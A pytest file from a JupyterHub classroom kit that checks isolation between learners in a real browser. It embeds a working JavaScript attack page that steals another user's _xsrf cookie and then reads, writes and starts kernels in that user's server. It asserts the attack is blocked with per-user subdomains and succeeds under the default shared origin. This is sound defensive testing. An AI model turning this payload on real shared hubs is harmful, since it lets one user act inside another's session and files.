"""One learner's page against another learner's session, in a real browser (issue 46).

A learner's code can make their own server serve any page (the deploy README's "One web
origin"). The browser here plays bob, signed in, who opens such a page at ada's address; the page
tries to read bob's files, write one, start a kernel in bob's server and read the hub's view of
him. Ada's server is not changed for it: Playwright answers the one request for the page, which
is exactly what a server ada replaced would send. The rest is the real hub (``bash run.sh hub``
as root), the real proxy, bob's real server.

- With ``UMKIT_HUB_SUBDOMAIN_HOST`` (here ``http://localhost:PORT``: Chromium sends every
  ``*.localhost`` name to the loopback address, so no DNS is needed) ada's page is another
  site's: every read is refused by the browser, the write and the kernel start by bob's server.
- Without it (the default) the same page at ``/user/ada/`` reads bob's files: what the README
  says the default leaves open. This half keeps the test honest: the attack works where the
  README says it does.

Skipped where learner accounts (root), the proxy, Playwright or Chromium cannot be had."""
from __future__ import annotations

import importlib.util
import json
import os
import re
import sys
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).resolve().parent))
sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "browser"))
pytest.importorskip("jupyterhub")
from test_hub_isolation import PASSWORD, open_room  # noqa: E402

CHROMIUM = os.environ.get("UMKIT_CHROMIUM", "/usr/bin/chromium")
#: Chromium's local-network checks off: the page the test answers for ada has no address of its
#: own, so Chromium would count it as a public site and refuse it every request to the loopback
#: hub, whatever the origins -- which a real hub on a public name would not get.  What is left
#: is what a real room gets: the same-origin policy, the cookies' hosts, the servers' checks
CHROMIUM_ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--no-first-run",
                 "--disable-background-networking", "--disable-component-update", "--disable-sync",
                 "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests,"
                 "PrivateNetworkAccessSendPreflights,PrivateNetworkAccessRespectPreflightResults",
                 "--disable-popup-blocking"]

#: the page ada's server could serve: it reports what it could do in bob's browser
ATTACK = """<!doctype html><title>ada's page</title><body><script>
const BOB = %(bob)s, HUB = %(hub)s;
let xsrf = "";
async function attempt(url, opts) {
  opts = Object.assign({credentials: "include", signal: AbortSignal.timeout(10000)}, opts || {});
  if (xsrf && opts.mode !== "no-cors") opts.headers = Object.assign({"X-XSRFToken": xsrf}, opts.headers || {});
  try {
    const r = await fetch(url, opts);
    if (r.type === "opaque") return "sent, answer unreadable";
    const t = await r.text();
    return "READ " + r.status + " " + t.slice(0, 60);
  } catch (e) { return "blocked: " + e.name; }
}
const res = {};
window.partial = res;
(async () => {
  // a window on a page of bob's server: on the same site its cookies (bob's _xsrf token among
  // them: the cookie's path is bob's server) are the opener's to read
  const w = window.open(BOB + "/api/status", "bob");
  // until its page is in (or, another site's, no longer readable), at most 10 s
  for (const t0 = Date.now(); Date.now() - t0 < 10000; ) {
    await new Promise(ok => setTimeout(ok, 100));
    try { if (w.location.href !== "about:blank" && w.document.readyState === "complete") break; }
    catch (e) { break; }
  }
  try {
    const m = /(?:^|; )_xsrf=([^;]*)/.exec(w.document.cookie);
    xsrf = m ? decodeURIComponent(m[1]) : "";
    res.read_window = "READ cookie" + (xsrf ? " with _xsrf" : " without _xsrf");
  } catch (e) { res.read_window = "blocked: " + e.name; }
  res.read_contents = await attempt(BOB + "/api/contents");
  res.read_hub_user = await attempt(HUB + "/hub/api/user");
  res.write_file = await attempt(BOB + "/api/contents/from_ada.txt", {method: "PUT",
      headers: {"Content-Type": "application/json"},
      body: JSON.stringify({type: "file", format: "text", content: "ada was here"})});
  // simple requests need no preflight: sent with bob's cookies; the server must refuse them
  res.post_kernel = await attempt(BOB + "/api/kernels", {method: "POST", mode: "no-cors",
      headers: {"Content-Type": "text/plain"}, body: JSON.stringify({name: "python3"})});
  res.post_file = await attempt(BOB + "/api/contents/from_ada2.txt", {method: "POST",
      mode: "no-cors", headers: {"Content-Type": "text/plain"}, body: "{}"});
  window.result = res;
})();
</script>"""


def _need_browser():
    if importlib.util.find_spec("playwright") is None:
        pytest.skip(f"playwright is not installed in {sys.executable}")
    if not os.access(CHROMIUM, os.X_OK):
        pytest.skip(f"no Chromium at {CHROMIUM} (UMKIT_CHROMIUM names another)")


def _sign_in(context, hub, base: str, name: str, lab: str):
    """Sign ``name`` in through the hub's login page in ``context``; wait until the browser is in
    their JupyterLab at ``lab`` (a regular expression); return the page."""
    page = context.new_page()
    page.goto(f"{base}/hub/login", timeout=60_000)
    page.fill("input[name=username]", name)
    page.fill("input[name=password]", f"{PASSWORD} {hub.word(name)}")
    page.click("#login_submit")
    page.wait_for_url(re.compile(lab), timeout=180_000)
    return page


def _attack(hub, subdomains: bool) -> tuple[dict, list, list]:
    """Bob signs in, opens ada's page; returns (what the page could do, bob's files before and
    after, bob's kernels before and after and those the page started: kernels and sessions his
    JupyterLab's open notebooks do not hold) -- as bob's own session sees them."""
    from playwright.sync_api import sync_playwright
    port = hub.port
    base = f"http://localhost:{port}"
    bob_root = f"http://bob.localhost:{port}/user/bob" if subdomains else f"{base}/user/bob"
    ada_page = (f"http://ada.localhost:{port}/user/ada/files/page.html" if subdomains
                else f"{base}/user/ada/files/page.html")
    with sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        try:
            ctx = browser.new_context()
            page = _sign_in(ctx, hub, base, "bob", re.escape(bob_root) + r"/lab")
            # JupyterLab starts a kernel for the notebook it opens: wait until it has one, so
            # that it is in the "before" list and not taken for the attack's
            page.wait_for_function("""async (u) => {
                const m = /(?:^|; )_xsrf=([^;]*)/.exec(document.cookie);
                const r = await fetch(u, {credentials: "include",
                    headers: m ? {"X-XSRFToken": decodeURIComponent(m[1])} : {}});
                return (await r.json()).length > 0; }""", arg=bob_root + "/api/kernels",
                                   timeout=120_000, polling=1000)
            page.wait_for_timeout(3000)

            def own(path):
                """GET ``path`` of bob's server as his JupyterLab does (its _xsrf token sent)."""
                return page.evaluate("""async (u) => {
                    const m = /(?:^|; )_xsrf=([^;]*)/.exec(document.cookie);
                    const r = await fetch(u, {credentials: "include",
                        headers: m ? {"X-XSRFToken": decodeURIComponent(m[1])} : {}});
                    return [r.status, await r.text()]; }""", bob_root + path)
            status, body = own("/api/contents")
            assert status == 200, (status, body[:200])
            files = [f["name"] for f in json.loads(body)["content"]]
            kernels = json.loads(own("/api/kernels")[1])
            sessions = json.loads(own("/api/sessions")[1])
            ctx.route(ada_page, lambda route: route.fulfill(
                status=200, content_type="text/html",
                body=ATTACK % {"bob": json.dumps(bob_root), "hub": json.dumps(base)}))
            evil = ctx.new_page()
            evil.goto(ada_page, timeout=60_000)
            try:
                evil.wait_for_function("window.result !== undefined", timeout=90_000)
            except Exception as err:
                raise AssertionError(f"ada's page did not finish: {evil.evaluate('window.partial')}"
                                     ) from err
            result = evil.evaluate("window.result")
            files_after = [f["name"] for f in json.loads(own("/api/contents")[1])["content"]]
            kernels_after = json.loads(own("/api/kernels")[1])
            sessions_after = json.loads(own("/api/sessions")[1])
        finally:
            browser.close()
    # JupyterLab's own kernels belong to the sessions of the notebooks it had open before the
    # page came (on a loaded machine it may have started one anew meanwhile); a kernel the page
    # started, by the kernels API or by a session of its own, is neither
    paths = {s["path"] for s in sessions}
    labs = {s["kernel"]["id"] for s in sessions_after if s.get("kernel") and s["path"] in paths}
    before = {k["id"] for k in kernels}
    strays = [k for k in kernels_after if k["id"] not in before and k["id"] not in labs]
    strays += [s for s in sessions_after if s["path"] not in paths]
    return result, (files, files_after), (kernels, kernels_after, strays)


def test_with_subdomains_a_learners_page_cannot_act_in_anothers_session():
    _need_browser()
    with open_room(extra_env={"UMKIT_HUB_SUBDOMAIN_HOST": "http://localhost:{port}"},
                   sign_in=()) as room:
        hub = room["hub"]
        result, files, kernels = _attack(hub, subdomains=True)
        log = (room["tmp"] / "hub.log").read_text()
    assert "shares one web origin" not in log
    # bob's window is another site's: reading it is the browser's SecurityError (a window that
    # never opened would be a TypeError, and prove nothing)
    assert result["read_window"] == "blocked: SecurityError", result
    for what in ("read_contents", "read_hub_user", "write_file"):
        assert result[what].startswith("blocked"), (what, result)
    for what in ("post_kernel", "post_file"):
        assert not result[what].startswith("READ"), (what, result)
    assert files[0] == files[1], files                  # nothing written into bob's workspace
    assert kernels[2] == [], kernels                    # no kernel or session started for bob


def test_without_subdomains_a_learners_page_reads_anothers_files_as_the_readme_says():
    _need_browser()
    with open_room(sign_in=()) as room:
        hub = room["hub"]
        result, files, kernels = _attack(hub, subdomains=False)
        log = (room["tmp"] / "hub.log").read_text()
    assert "shares one web origin" in log and "UMKIT_HUB_SUBDOMAIN_HOST" in log   # said at start
    assert result["read_contents"].startswith("READ 200"), result
    assert result["write_file"].startswith("READ 201"), result
    assert "from_ada.txt" in files[1] and "from_ada.txt" not in files[0], files
    readme = (Path(__file__).resolve().parents[2] / "deploy" / "jupyterhub" / "README.md")
    assert "One web origin" in readme.read_text()
